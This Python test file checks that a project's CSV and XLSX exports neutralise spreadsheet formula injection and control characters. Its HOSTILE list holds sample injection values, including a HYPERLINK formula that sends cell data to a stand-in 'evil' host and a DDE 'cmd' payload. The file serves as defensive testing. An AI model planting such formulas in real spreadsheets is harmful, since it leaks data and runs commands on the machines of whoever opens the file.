"""The shared spreadsheet exports: every cell a client could have typed opens inert, and a
control character in old data no longer breaks the whole workbook."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from openpyxl import load_workbook

from zapys.core.exports import XLSX_CONTENT_TYPE, csv_response, xlsx_response

HOSTILE = [
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
HEADER = ["name", "amount"]


def _csv_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def _sheet(response):
    return load_workbook(io.BytesIO(response.content)).active


def test_csv_cells_that_start_like_a_formula_get_an_apostrophe():
    rows = [[name, Decimal("1.00")] for name in HOSTILE]
    response = csv_response("x.csv", HEADER, rows)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert response.content.startswith("\ufeff".encode())  # Excel reads it as UTF-8
    parsed = _csv_rows(response)
    assert parsed[0] == HEADER
    names = [row[0] for row in parsed[1:]]
    assert len(names) == len(HOSTILE)
    for original, written in zip(HOSTILE, names, strict=True):
        assert written.startswith("'"), written
        assert written[1] == original[0]  # the text itself is kept after the apostrophe


def test_csv_keeps_numbers_ukrainian_text_and_plain_text_as_they_are():
    rows = [
        ["Іваненко Марія", Decimal("-30.00")],
        ["Олена-Марія", Decimal("1600.00")],
        ["Коментар\nу два рядки", 5],
    ]
    parsed = _csv_rows(csv_response("x.csv", HEADER, rows))
    assert parsed[1:] == [
        ["Іваненко Марія", "-30,00"],
        ["Олена-Марія", "1600,00"],
        ["Коментар\nу два рядки", "5"],
    ]


def test_a_ukrainian_excel_splits_the_csv_into_columns_and_reads_money_back():
    """The round trip: what a Ukrainian Excel does with the file — split each line on its
    list separator `;`, read a decimal comma — gives back the columns and the kopecks."""
    rows = [["Кравець Андрій, VIP", Decimal("1250.50")], ["Шевчук Марія", Decimal("-0.05")]]
    text = csv_response("x.csv", HEADER, rows).content.decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[0] == "name;amount"
    assert lines[1] == "Кравець Андрій, VIP;1250,50"  # a comma in a name is no separator
    parsed = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    kopecks = [round(Decimal(row[1].replace(",", ".")) * 100) for row in parsed[1:]]
    assert kopecks == [125050, -5]
    assert [len(row) for row in parsed] == [2, 2, 2]


def test_csv_strips_control_characters():
    parsed = _csv_rows(csv_response("x.csv", HEADER, [["Ан\x00на\x0b Ко\x1bваль", 1]]))
    assert parsed[1] == ["Анна Коваль", "1"]


def test_xlsx_has_no_formula_and_keeps_the_exact_text():
    rows = [[name, Decimal("-12.50")] for name in HOSTILE]
    response = xlsx_response("x.xlsx", "Sheet", HEADER, rows)
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="x.xlsx"'
    sheet = _sheet(response)
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert len(cells) == len(HOSTILE)
    for original, cell in zip(HOSTILE, cells, strict=True):
        assert cell.data_type == "s", (original, cell.data_type)
        assert cell.value == original.replace("\r", "\n")  # XML normalises a bare CR
        # Excel's own "typed with a leading apostrophe" flag: it stays text when edited.
        assert cell.quotePrefix is True
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_xlsx_numbers_stay_numbers_including_negative_ones():
    rows = [["Іваненко Марія", Decimal("-30.00")], ["Олена", Decimal("1600.00")], ["n", -3]]
    sheet = _sheet(xlsx_response("x.xlsx", "Sheet", HEADER, rows))
    values = list(sheet.iter_rows(min_row=2, values_only=True))
    assert values == [("Іваненко Марія", -30), ("Олена", 1600), ("n", -3)]
    amount = sheet.cell(row=2, column=2)
    assert amount.data_type == "n" and amount.number_format == "0.00"
    plain = sheet.cell(row=2, column=1)
    assert plain.data_type == "s" and not plain.quotePrefix


def test_xlsx_survives_control_characters_that_openpyxl_refuses():
    name = "Ан\x00на\x0b Ко\x1bваль\x7f"
    response = xlsx_response("x.xlsx", "Sheet", HEADER, [[name, 1], ["Нотатка\nі\tтаб", 2]])
    values = list(_sheet(response).iter_rows(min_row=2, values_only=True))
    assert values == [("Анна Коваль", 1), ("Нотатка\nі\tтаб", 2)]


def test_empty_values_are_empty_cells():
    parsed = _csv_rows(csv_response("x.csv", HEADER, [[None, ""]]))
    assert parsed[1] == ["", ""]
    sheet = _sheet(xlsx_response("x.xlsx", "S", HEADER, [[None, 1], ["", 2]]))
    assert list(sheet.iter_rows(min_row=2, values_only=True)) == [(None, 1), (None, 2)]
